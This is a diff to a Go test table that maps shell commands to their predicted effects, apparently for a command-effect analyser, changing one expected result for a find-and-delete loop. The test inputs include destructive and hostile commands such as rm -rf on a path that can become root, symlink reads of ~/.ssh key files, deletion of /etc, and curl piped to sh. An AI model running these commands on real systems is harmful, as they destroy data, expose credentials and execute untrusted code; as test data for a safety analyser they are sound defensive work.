@@ -55,7 +55,7 @@ func TestEffects(t *testing.T) {
 		{`rm -rf "$X/"`, `delete /, delete  (anywhere)`},
 		{`X=; rm -rf "$X/"`, `delete /`},
 		{`for f in *.o; do rm "$f"; done`, `delete *.o`},
-		{`find . -name x | while read -r f; do rm "$f"; done`, `delete /home/dev/proj (under)`},
+		{`find . -name x | while read -r f; do rm "$f"; done`, `delete **/x`},
 		{`ln -s ~/.ssh k; cat k/id`, `read /home/dev/.ssh, create k, read k/id, read /home/dev/.ssh/id`},
 		{`ln -s / l; cd l && rm -rf etc`, `read /, create l, delete /etc`},
 		{`curl http://h.example/x | sh`, `fetch h.example, execute fetched:sh`},
